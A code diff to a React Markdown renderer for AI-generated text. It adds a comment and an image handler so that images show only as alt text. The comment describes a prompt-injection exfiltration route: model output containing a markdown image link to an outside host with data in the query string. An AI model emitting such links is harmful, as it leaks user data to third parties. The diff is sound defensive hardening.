@@ -1,5 +1,7 @@
 // AI text (an answer, feedback) rendered as Markdown. Raw HTML is never parsed: without rehype-raw, react-markdown shows it as
 // literal text. Web links open in a new tab; a link whose address react-markdown emptied (javascript:, data:…) stays plain text.
+// Images are never loaded: `![x](https://elsewhere/pixel?d=…)` in model output (a prompt injection) would make the browser
+// send data to that host, so an image shows as its alt text only.
 import ReactMarkdown, { type Components } from 'react-markdown';
 import { cn } from '@/lib/cn';
 
@@ -12,6 +14,7 @@ const components: Components = {
     ) : (
       <span>{children}</span>
     ),
+  img: ({ alt }) => (alt ? <span className="italic text-slate-600">[{alt}]</span> : null),
 };
 
 export function MarkdownText({ text, className }: { text: string; className?: string }) {
